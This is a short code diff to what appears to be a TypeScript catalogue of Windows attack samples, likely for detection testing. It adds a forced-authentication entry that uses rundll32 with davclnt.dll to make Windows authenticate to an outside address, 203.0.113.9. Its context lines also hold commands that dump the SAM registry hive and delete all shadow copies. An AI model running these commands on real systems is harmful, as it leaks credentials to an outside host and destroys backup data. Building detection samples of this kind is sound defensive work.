@@ -108,6 +108,15 @@ export const WINDOWS_ATTACKS: readonly Attack[] = [
     [SYSTEM + "reg.exe", "reg save HKLM\\SAM C:\\Windows\\Temp\\s.sav"],
     [SYSTEM + "vssadmin.exe", "vssadmin delete shadows /all /quiet"],
   ]),
+  commands("forced_authentication", "An appointment that has Windows log in to a share outside", [
+    "webdav_forced_authentication",
+  ], [
+    [
+      SYSTEM + "rundll32.exe",
+      "rundll32.exe C:\\Windows\\system32\\davclnt.dll,DavSetCookie 203.0.113.9 http://203.0.113.9/a",
+      SYSTEM + "svchost.exe",
+    ],
+  ]),
   {
     name: "windows_persistence",
     summary: "LSASS memory access, Run key, UAC bypass and WMI event subscription",
